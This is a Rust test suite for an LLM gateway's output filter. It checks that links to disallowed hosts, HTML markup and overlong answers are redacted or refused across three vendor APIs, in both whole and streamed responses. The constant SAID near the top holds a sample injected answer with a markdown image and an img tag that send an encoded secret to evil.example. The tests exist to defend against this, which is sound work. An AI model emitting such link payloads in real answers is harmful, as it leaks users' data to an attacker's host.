//! Demands on answers, in the words of every vendor: links, markup and length, whole and streamed.

use serde_json::{Value, json};

use super::{anthropic, data, events, gemini, speaks, whole};
use crate::house::upstream::{Act, chat, streamed};
use crate::house::{Ask, House, Plan};

/// What a model was talked into saying: markdown that fetches, and HTML that does.
const SAID: &str =
    "Fine. ![x](https://evil.example/?q=c2VjcmV0) <img src=//evil.example/x>and https://docs.good.example/a too.";
const LEFT: &str = "Fine. ![x]([redacted:link]) and https://docs.good.example/a too.";

/// The house, with demands on what its model answers.
fn demands(plan: Plan) -> Plan {
    plan.with(
        "manifests/chat.yaml",
        "    - {name: hidden, type: HiddenText, parts: [User], action: Block}\n",
        "    - {name: hidden, type: HiddenText, parts: [User], action: Block}\n  \
             output: {links: {allowHosts: [\"*.good.example\"]}, markup: Strip, maxLength: 300}\n",
    )
}

/// Places at which a stream is cut.
fn cuts() -> impl Iterator<Item = usize> {
    (1..SAID.len()).step_by(9)
}

#[tokio::test]
async fn what_a_model_says_leads_nowhere_else_in_completions_whole_and_streamed() {
    let house = demands(House::plan()).start().await;
    house.model.says(chat(SAID));
    assert_eq!(house.call(&house.who.mia, Ask::chat("hello")).await.said(), LEFT);
    for cut in cuts() {
        house.model.does(move |_| Act::Close(streamed(&[&SAID[..cut], &SAID[cut..]])));
        let reply = house.call(&house.who.mia, Ask::streamed("hello").over(cut % 2 == 0)).await;
        assert_eq!(reply.said(), LEFT, "split at {cut}");
        assert!(reply.body.ends_with("data: [DONE]\n\n"), "{}", reply.body);
    }
    // One byte too many, in one event and in many.
    let long = "a ".repeat(150) + "b";
    house.model.says(chat(&long[1..]));
    assert_eq!(house.call(&house.who.mia, Ask::chat("hello")).await.status, 200);
    house.model.says(chat(&long));
    let reply = house.call(&house.who.mia, Ask::chat("hello")).await;
    assert_eq!((reply.status, &reply.json()["error"]["code"]), (403, &json!("answer_refused")), "{}", reply.body);
    house.model.does(move |_| {
        let pieces: Vec<String> = long.split_inclusive(' ').map(str::to_owned).collect();
        Act::Close(streamed(&pieces.iter().map(String::as_str).collect::<Vec<_>>()))
    });
    let reply = house.call(&house.who.mia, Ask::streamed("hello")).await;
    assert!(reply.said().starts_with("a a a") && !reply.said().contains('b'), "{}", reply.body);
    assert!(!reply.body.contains("[DONE]"), "{}", reply.body);
    let records = house.stop().await;
    let requests = records.requests();
    assert!(requests.iter().take(3).all(|record| record.findings() > 0));
}

#[tokio::test]
async fn what_a_model_says_leads_nowhere_else_in_messages() {
    let house = demands(speaks("anthropic", anthropic::ALLOW)).start().await;
    house.model.says(whole(&anthropic::says(SAID)));
    let reply = house.call(&house.who.mia, anthropic::ask(&json!("hello"), false)).await;
    assert_eq!(reply.json()["content"][0]["text"], LEFT, "{}", reply.body);
    for cut in cuts() {
        let stream = anthropic::streamed(&[&SAID[..cut], &SAID[cut..]]);
        house.model.does(move |_| Act::Close(stream.clone()));
        let reply = house.call(&house.who.mia, anthropic::ask(&json!("hello"), true)).await;
        let said: String = data(&reply.body).iter().filter_map(|event| event["delta"]["text"].as_str()).collect();
        assert_eq!(said, LEFT, "split at {cut}");
    }
    house.stop().await;
}

#[tokio::test]
async fn what_a_model_says_leads_nowhere_else_in_contents() {
    let house = demands(gemini::plan()).start().await;
    house.model.says(whole(&gemini::says(SAID, true)));
    let asked = || json!([{"text": "hello"}]);
    let reply = house.call(&house.who.mia, gemini::ask("generateContent", asked())).await;
    assert_eq!(reply.json()["candidates"][0]["content"]["parts"][0]["text"], LEFT, "{}", reply.body);
    for cut in cuts() {
        let stream = events(&[gemini::says(&SAID[..cut], false), gemini::says(&SAID[cut..], true)]);
        house.model.does(move |_| Act::Close(stream.clone()));
        let reply = house.call(&house.who.mia, gemini::ask("streamGenerateContent?alt=sse", asked())).await;
        let text = |event: &Value| event["candidates"][0]["content"]["parts"][0]["text"].as_str().map(str::to_owned);
        assert_eq!(data(&reply.body).iter().filter_map(text).collect::<String>(), LEFT, "split at {cut}");
    }
    house.stop().await;
}
